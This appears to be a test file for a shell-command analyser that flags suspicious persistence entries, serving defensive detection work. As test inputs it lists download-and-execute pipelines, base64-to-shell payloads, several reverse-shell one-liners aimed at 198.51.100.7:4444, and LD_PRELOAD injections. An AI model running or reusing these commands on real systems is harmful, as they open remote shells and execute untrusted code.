import { describe, expect, it } from 'vitest';
import { analyzeCommand, expandHome, isPlain, lex } from '../../../src/collectors/persistence/parse-command.js';

const runs = (cmd: string, home?: string) => analyzeCommand(cmd, { home }).runs;
const fetch = (cmd: string) => analyzeCommand(cmd).fetchPipe;

describe('lex', () => {
  it('keeps quoted words whole, drops fd numbers of redirections, splits operators', () => {
    const words = (s: string) => lex(s).map((t) => (t.t === 'word' ? t.v : `<${t.v}>`));
    expect(words(`"/tmp/.. /x" -a 'b c' >/dev/null 2>&1`)).toEqual(['/tmp/.. /x', '-a', 'b c', '<>>', '/dev/null', '<>&>', '1']);
    expect(words('a|b&&c||d;e&')).toEqual(['a', '<|>', 'b', '<&&>', 'c', '<||>', 'd', '<;>', 'e', '<&>']);
    expect(words('echo a\\ b "x\\"y" # comment')).toEqual(['echo', 'a b', 'x"y']);
    expect(words('curl http://h/#frag')).toEqual(['curl', 'http://h/#frag']);
  });

  it('collects the text of $(…), backticks and <(…)', () => {
    const subs: string[] = [];
    lex('sh -c "$(curl -s x)" `id` <(wget -O- y)', subs);
    expect(subs).toEqual(['curl -s x', 'id', 'wget -O- y']);
  });
});

describe('analyzeCommand: fetch and pipe', () => {
  it.each([
    ['curl -fsSL http://x | sh', 'curl … | sh'],
    ['wget -q -O- http://x/a.sh | bash', 'wget … | bash'],
    ['curl -s http://x | bash -s -- arg', 'curl … | bash'],
    ['(curl -s http://h/ldr.sh || wget -q -O- http://h/ldr.sh) | bash > /dev/null 2>&1', 'curl … | bash'],
    ['echo ZWNobyBoaQ== | base64 -d | sh', 'base64 -d … | sh'],
    ['echo ZWNobyBoaQ== | base64 --decode | /bin/bash', 'base64 -d … | bash'],
    ['curl -s http://x | python3 -', 'curl … | python3'],
    ['curl -s http://x | perl', 'curl … | perl'],
    ['nohup sh -c "wget -qO- http://x | sh" &', 'wget … | sh'],
    ['bash -c "$(curl -fsSL http://x)"', 'bash … $(curl …)'],
    ['eval "$(wget -qO- http://x)"', 'eval … $(wget …)'],
    ['bash <(curl -s http://x)', 'bash … $(curl …)'],
    ['curl -s http://x | busybox sh', 'curl … | busybox'],
    ['sudo -u www-data curl -s http://x | sudo sh', 'curl … | sh'],
    ['curl -s http://x | base64 -d | sh', 'curl … | sh'],
  ])('%s', (cmd, want) => {
    expect(fetch(cmd)).toBe(want);
  });

  it.each([
    'apt-get update | tee /var/log/apt-update.log',
    'curl -s https://example.com/cron.php > /dev/null',
    'wget -q -O /dev/null https://example.com/wp-cron.php',
    'curl -s http://x | tee /tmp/y',
    'curl -s http://x | grep -q ok && echo up',
    'curl -s http://x | logger -t check',
    'echo hi | sh',
    'sh /usr/local/bin/backup.sh | mail -s backup root',
    'curl -s -o /var/cache/list http://x; sh -n /etc/profile',
    'base64 -d < /root/key.b64 > /root/key',
  ])('not a fetch-and-pipe: %s', (cmd) => {
    expect(fetch(cmd)).toBeNull();
  });
});

describe('analyzeCommand: what runs', () => {
  it('the program by path, past redirections, wrappers and assignments', () => {
    expect(runs('/tmp/.X25-unix/.rsync/c/a >/dev/null 2>&1')).toEqual([{ path: '/tmp/.X25-unix/.rsync/c/a', as: 'program' }]);
    expect(runs('nohup setsid timeout 300 nice -n 10 /dev/shm/.x/kswapd0 -B &')).toEqual([{ path: '/dev/shm/.x/kswapd0', as: 'program' }]);
    expect(runs('FOO=1 env -i PATH=/bin /var/tmp/x')).toEqual([{ path: '/var/tmp/x', as: 'program' }]);
    expect(runs('flock -n /tmp/lock /usr/local/bin/job')).toEqual([{ path: '/usr/local/bin/job', as: 'program' }]);
    expect(runs('sudo -u alice /home/alice/.x/y')).toEqual([{ path: '/home/alice/.x/y', as: 'program' }]);
  });

  it('~, $HOME and ./x after cd, with and without a known home', () => {
    expect(runs('@reboot ~/.configrc/b/sync'.slice(8))).toEqual([{ path: '~/.configrc/b/sync', as: 'program' }]);
    expect(runs('~/.configrc/b/sync', '/home/alice')).toEqual([{ path: '/home/alice/.configrc/b/sync', as: 'program' }]);
    expect(runs('$HOME/.x/y', '/root')).toEqual([{ path: '/root/.x/y', as: 'program' }]);
    expect(runs('cd "/tmp/.. /kit" && ./pscan2 22')).toEqual([{ path: '/tmp/.. /kit/pscan2', as: 'program' }]);
    expect(runs('./run', '/home/bob')).toEqual([{ path: '/home/bob/run', as: 'program' }]);
    expect(expandHome('${HOME}/a', '/h')).toBe('/h/a');
  });

  it('scripts handed to shells and interpreters, and sh -c followed inside', () => {
    expect(runs('/usr/bin/perl /tmp/.x/rsync')).toEqual([{ path: '/usr/bin/perl', as: 'program' }, { path: '/tmp/.x/rsync', as: 'script' }]);
    expect(runs('bash -x /var/tmp/go.sh')).toEqual([{ path: '/var/tmp/go.sh', as: 'script' }]);
    expect(runs('python3 -u /dev/shm/m.py')).toEqual([{ path: '/dev/shm/m.py', as: 'script' }]);
    expect(runs(`/bin/sh -c 'cd /tmp/.x; ./a'`)).toEqual([{ path: '/bin/sh', as: 'program' }, { path: '/tmp/.x/a', as: 'program' }]);
    expect(runs('. ~/.bashrc', '/root')).toEqual([{ path: '/root/.bashrc', as: 'script' }]);
  });

  it('files that are only read or written are not runs', () => {
    expect(runs('/usr/bin/find /tmp -type f -mtime +7 -delete')).toEqual([{ path: '/usr/bin/find', as: 'program' }]);
    expect(runs('rm -rf /tmp/.cache')).toEqual([]);
    expect(runs('/usr/local/bin/job > /tmp/job.log 2>&1 < /tmp/in')).toEqual([{ path: '/usr/local/bin/job', as: 'program' }]);
    expect(runs('test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }')).toEqual([]);
    expect(isPlain(analyzeCommand('cd / && run-parts --report /etc/cron.hourly'))).toBe(true);
  });

  it('programs named without a folder are listed by name', () => {
    expect(analyzeCommand('kswapd0 -B; cd / && run-parts x').programs).toEqual(['kswapd0', 'run-parts']);
  });
});

describe('analyzeCommand: reverse shells and LD_PRELOAD', () => {
  it.each([
    'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    'nc -e /bin/sh 198.51.100.7 4444',
    'ncat 198.51.100.7 4444 -e /bin/bash',
    'socat tcp:198.51.100.7:4444 exec:/bin/sh',
    `python3 -c 'import socket,subprocess,os;s=socket.socket()'`,
    'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f',
  ])('%s', (cmd) => {
    expect(analyzeCommand(cmd).reverseShell).not.toBeNull();
  });

  it('is not fooled by nc used as a client or a port check', () => {
    expect(analyzeCommand('nc -z 127.0.0.1 22').reverseShell).toBeNull();
    expect(analyzeCommand('python3 /usr/local/bin/socket-report.py').reverseShell).toBeNull();
  });

  it('finds LD_PRELOAD as an assignment, in env and in export', () => {
    expect(analyzeCommand('LD_PRELOAD=/lib/.x/l.so /usr/bin/top').ldPreload).toBe('/lib/.x/l.so');
    expect(analyzeCommand('env LD_PRELOAD=/x.so cmd').ldPreload).toBe('/x.so');
    expect(analyzeCommand('export LD_PRELOAD=/y.so').ldPreload).toBe('/y.so');
    expect(analyzeCommand('export LD_LIBRARY_PATH=/opt/lib').ldPreload).toBeNull();
  });

  it('stays bounded on a crafted line, and deep nesting neither crashes nor hides a fetch', () => {
    const a = analyzeCommand(`${'$('.repeat(5000)}x${')'.repeat(5000)} | ${'a'.repeat(100000)}`);
    expect(a.fetchPipe).toBeNull();
    for (const s of ['(('.repeat(8000), '{ '.repeat(8000), '`'.repeat(8000), 'curl x|'.repeat(3000)]) expect(analyzeCommand(s).fetchPipe).toBeNull();
    expect(analyzeCommand(`${'('.repeat(40)}curl x${')'.repeat(40)}|sh`).fetchPipe).toBe('curl … | sh');
    expect(analyzeCommand(`${'{ '.repeat(40)}curl x;${' }'.repeat(40)}|sh`).fetchPipe).toBe('curl … | sh');
  });
});
